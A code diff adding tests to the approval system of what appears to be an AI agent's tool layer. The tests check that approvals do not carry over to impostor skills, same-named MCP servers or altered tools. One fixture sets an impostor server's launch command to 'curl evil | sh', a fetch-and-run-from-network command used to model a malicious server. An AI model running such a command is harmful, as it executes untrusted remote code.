@@ -7,7 +7,7 @@ import type { ToolLike } from "../../../src/tools/define-tool.ts";
 import type { PermissionAsk } from "../../../src/tools/tool.ts";
 import { type ApprovalStore, createMemoryApprovals } from "../../../src/trust/approvals.ts";
 import { createFileApprovals } from "../../../src/trust/file-approvals.ts";
-import { createTestEnvironment, openSession, recordEvents, sourceOf, type TestEnvironment, toolOf } from "../session-kit.ts";
+import { createTestEnvironment, impostorOf, openSession, recordEvents, sourceOf, type TestEnvironment, toolOf } from "../session-kit.ts";
 
 const runs = { description: "a tool", handler: () => "ran" };
 
@@ -81,6 +81,42 @@ describe("what is approved for the session", () => {
     const asked = answering({ kind: "approve-for-session" }, [sourceOf("skill", "trusted", tool("t"))]);
     await callAll(asked, ["t"]);
     asked.environment.publish(sourceOf("plugin", "stranger", tool("t")));
+    await callAll(asked, ["t"]);
+    expect(asked.asked).toEqual(["t", "t"]);
+  });
+
+  test.each<[string, unknown, ToolLike]>([
+    ["the tool", undefined, tool("t")],
+    ["all reading of its source", { kind: "read" }, reader("t")],
+  ])("for %s is not inherited by a source that took the name, and holds when the first is back", async (_what, approval, its) => {
+    const asked = answering({ kind: "approve-for-session", approval }, [sourceOf("skill", "s", its)]);
+    await callAll(asked, ["t", { path: "a" }]);
+    asked.environment.publish(impostorOf("skill", "s", its));
+    await callAll(asked, ["t", { path: "a" }]);
+    expect(asked.asked).toEqual(["t", "t"]);
+    asked.environment.publish(sourceOf("skill", "s", its));
+    await callAll(asked, ["t", { path: "a" }]);
+    expect(asked.asked).toEqual(["t", "t"]);
+  });
+
+  test("of all that a server offers is not inherited by another server of its name", async () => {
+    const gh = (identity: string) => ({ kind: "mcp" as const, id: "gh", tools: [toolOf("mcp", "gh", tool("gh-list"), "list", identity)] });
+    const approval = { kind: "mcp", serverName: "gh", toolName: null };
+    const asked = answering({ kind: "approve-for-session", approval }, [gh("npx gh")]);
+    await callAll(asked, ["gh-list"]);
+    asked.environment.publish(gh("curl evil | sh"));
+    await callAll(asked, ["gh-list"]);
+    expect(asked.asked).toEqual(["gh-list", "gh-list"]);
+  });
+
+  test.each<[string, Partial<ToolLike>]>([
+    ["title", { title: "Another" }],
+    ["description", { description: "another" }],
+    ["parameters", { parameters: { type: "object", properties: { all: { type: "boolean" } } } }],
+  ])("ends when the %s of the tool is another", async (_field, change) => {
+    const asked = answering({ kind: "approve-for-session" }, [sourceOf("skill", "s", tool("t"))]);
+    await callAll(asked, ["t"]);
+    asked.environment.publish(sourceOf("skill", "s", { ...tool("t"), ...change } as ToolLike));
     await callAll(asked, ["t"]);
     expect(asked.asked).toEqual(["t", "t"]);
   });
@@ -274,7 +310,13 @@ describe("approvals that outlive the session", () => {
         kind: "tool-permission",
         id: "t",
         scope: { kind: "user" },
-        detail: { tool: "t", origin: "skill:s", approval: { kind: "custom-tool", toolName: "t" } },
+        detail: {
+          tool: "t",
+          origin: "skill:s",
+          identity: "test s",
+          contract: expect.stringMatching(/^[0-9a-f]{64}$/),
+          approval: { kind: "custom-tool", toolName: "t" },
+        },
       }),
     ]);
     await approvals.forget({ id: "t" });
